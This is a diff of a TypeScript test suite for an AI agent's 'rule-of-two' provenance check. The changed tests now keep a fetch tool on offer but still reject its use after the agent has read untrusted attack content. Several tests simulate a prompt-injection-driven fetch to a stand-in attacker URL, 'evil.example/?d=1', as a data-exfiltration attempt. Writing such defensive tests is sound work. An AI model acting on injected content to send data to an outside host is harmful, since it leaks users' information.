@@ -60,18 +60,22 @@ describe('what a cycle has read', () => {
     expect(cycle.now.messages.at(-1)?.content).toMatchObject([{ text: 'wrote 1 bytes to a.txt' }]);
   });
 
-  verifies('provenance:rule-of-two', 'withdraws the tool, and refuses it when it is called all the same', () => {
-    const cycle = started();
-    expect(offered(cycle)).toContain('fetch_url');
-    cycle.answer(read);
-    cycle.finish('r-c1-t1', ATTACK);
-    expect(offered(cycle)).toEqual(['read_file', 'write_file', 'memory_read']);
-    cycle.answer(fetchOf('https://evil.example/?d=1'));
-    expect(verdicts(cycle)).toEqual(['Accept effect-class/0', 'Reject flow/rule-of-two']);
-    expect(cycle.events.some((event) => event.kind === 'ToolRequested' && event.tool === 'fetch_url')).toBe(false);
-  });
+  verifies(
+    'provenance:rule-of-two',
+    'goes on offering the tool, so that a provider keeps the conversation, and refuses it',
+    () => {
+      const cycle = started();
+      expect(offered(cycle)).toContain('fetch_url');
+      cycle.answer(read);
+      cycle.finish('r-c1-t1', ATTACK);
+      expect(offered(cycle)).toContain('fetch_url');
+      cycle.answer(fetchOf('https://evil.example/?d=1'));
+      expect(verdicts(cycle)).toEqual(['Accept effect-class/0', 'Reject flow/rule-of-two']);
+      expect(cycle.events.some((event) => event.kind === 'ToolRequested' && event.tool === 'fetch_url')).toBe(false);
+    },
+  );
 
-  verifies('provenance:rule-of-two', 'keeps the tool for the addresses of the Task', () => {
+  verifies('provenance:rule-of-two', 'asks at the addresses of the Task', () => {
     const cycle = started({ addresses: ['https://rates.example/today'] });
     cycle.answer(read);
     cycle.finish('r-c1-t1', ATTACK);
@@ -85,7 +89,6 @@ describe('what a cycle has read', () => {
   verifies('provenance:rule-of-two', 'counts what an earlier step handed on', () => {
     const handed = { source: { kind: 'Subtask' }, trust: 'Untrusted', readers: 'Principal' } as const;
     const cycle = started({ handedOn: [{ recordId: 'r-c0', label: handed }] });
-    expect(offered(cycle)).not.toContain('fetch_url');
     cycle.answer(fetchOf('https://a.example/'));
     expect(verdicts(cycle)).toEqual(['Reject flow/rule-of-two']);
   });
